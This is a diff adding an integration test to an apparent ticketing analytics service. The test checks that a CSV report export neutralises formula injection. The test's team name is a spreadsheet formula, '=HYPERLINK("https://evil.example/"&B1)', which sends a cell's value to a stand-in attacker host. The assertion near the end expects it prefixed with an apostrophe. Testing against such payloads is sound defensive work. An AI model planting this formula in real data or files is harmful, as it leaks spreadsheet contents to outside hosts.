@@ -1,6 +1,8 @@
 package org.stonechat.analytics;
 
 import java.time.Duration;
+import java.time.LocalDate;
+import java.time.ZoneOffset;
 import java.util.UUID;
 
 import org.hamcrest.Matchers;
@@ -77,6 +79,43 @@ class ReportsIT {
                 .contentType("text/csv")
                 .body(Matchers.startsWith("key,label,created"))
                 .body(Matchers.containsString("MAIL"));
+    }
+
+    @Test
+    @Proves("A-2")
+    void shouldWriteNoWordIntoAFileThatASpreadsheetRuns() {
+        String name = "=HYPERLINK(\"https://evil.example/\"&B1)";
+        ObjectNode defined = JSON.objectNode()
+                .put("id", team.toString())
+                .put("name", name)
+                .put("slug", "team-" + team)
+                .put("visibility", "PORTAL_AND_INTERNAL");
+        defined.putArray("departmentIds").add(department.toString());
+        defined.putArray("memberIds");
+        sender.send("directory", "TeamDefined", team, 1, defined, JSON.objectNode());
+        liveOf(UUID.randomUUID());
+        awaitTickets(department, 1, 1, 1);
+        await().atMost(PATIENCE)
+                .untilAsserted(() -> report("tickets?groupBy=TEAM").body("rows[0].label", Matchers.equalTo(name)));
+
+        LocalDate today = LocalDate.now(ZoneOffset.UTC);
+        String period = today.minusDays(30) + "_to_" + today.plusDays(1);
+        String file = given().auth()
+                .oauth2(lead)
+                .queryParam("groupBy", "TEAM")
+                .queryParam("from", today.minusDays(30) + "T00:00:00Z")
+                .queryParam("to", today.plusDays(1) + "T00:00:00Z")
+                .get("/api/v1/reports/tickets.csv")
+                .then()
+                .statusCode(200)
+                .header(
+                        "Content-Disposition",
+                        "attachment; filename=\"tickets " + period.replace("_", " ") + ".csv\"; filename*=UTF-8''tickets%20"
+                                + period.replace("_", "%20") + ".csv")
+                .extract()
+                .asString();
+
+        assertThat(file).contains(team + ",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
     }
 
     @Test
